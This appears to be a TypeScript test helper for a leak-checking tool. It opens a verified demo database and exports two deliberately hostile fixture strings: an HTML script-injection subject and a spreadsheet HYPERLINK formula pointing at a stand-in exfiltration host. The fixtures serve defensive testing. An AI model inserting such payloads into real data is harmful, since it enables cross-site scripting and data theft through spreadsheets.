import { join } from 'node:path';
import { openStore } from '../../src/store/open-store.ts';
import type { Db } from '../../src/store/open-store.ts';
import { DEMO_DUMP, DEMO_KEYS, tempDir } from '../helpers/cli.ts';
import { verifyOffline } from '../helpers/in-process.ts';

/** Verifies the demo dump offline into a fresh database (runVerify, in this process), and opens it. */
export async function demoDatabase(): Promise<{ db: Db; path: string; dir: string; cleanup: () => void }> {
  const dir = tempDir('leakcheck-html-');
  const path = join(dir.path, 'demo.db');
  await verifyOffline(DEMO_DUMP, path, [DEMO_KEYS]);
  const db = openStore(path, { readonly: true });
  return {
    db,
    path,
    dir: dir.path,
    cleanup: () => {
      db.close();
      dir.cleanup();
    },
  };
}

/** The hostile subjects the demo dump carries on purpose. */
export const SCRIPT_SUBJECT = 'Contact form: <script>alert(1)</script>';
export const FORMULA_SUBJECT_START = '=HYPERLINK("http://exfil.example/';
